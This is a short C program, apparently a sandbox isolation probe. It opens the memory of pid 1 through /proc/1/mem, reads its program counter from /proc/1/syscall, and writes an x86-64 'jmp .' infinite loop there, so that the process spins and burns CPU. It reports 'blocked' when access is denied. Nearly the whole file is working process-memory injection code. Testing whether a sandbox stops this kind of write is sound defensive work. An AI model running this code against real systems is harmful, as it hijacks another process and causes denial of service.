/* With /proc mounted: opens the memory of the sandbox's pid 1 and writes an endless loop where its
   wait() returns, then exits. Were pid 1 writable, it would then burn CPU that the supervisor counts
   as the sandbox's own. Prints "blocked: ..." when pid 1 cannot be opened. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
int main(void) {
  int mem = open("/proc/1/mem", O_RDWR);
  if (mem < 0) {
    printf("blocked: %s\n", strerror(errno));
    return 0;
  }
  char text[256] = {0};
  int fd = open("/proc/1/syscall", O_RDONLY);
  ssize_t n = fd < 0 ? -1 : read(fd, text, sizeof text - 1);
  const char *pc = n > 0 ? strrchr(text, ' ') : NULL;
  unsigned long long at = 0;
  if (!pc || sscanf(pc, " 0x%llx", &at) != 1) {
    printf("opened, no pc: %s\n", text);
    return 0;
  }
  const unsigned char loop[] = {0xeb, 0xfe}; /* x86-64: jmp . */
  printf("injected: %zd\n", pwrite(mem, loop, sizeof loop, (off_t)at));
  fflush(stdout);
  return 0;
}
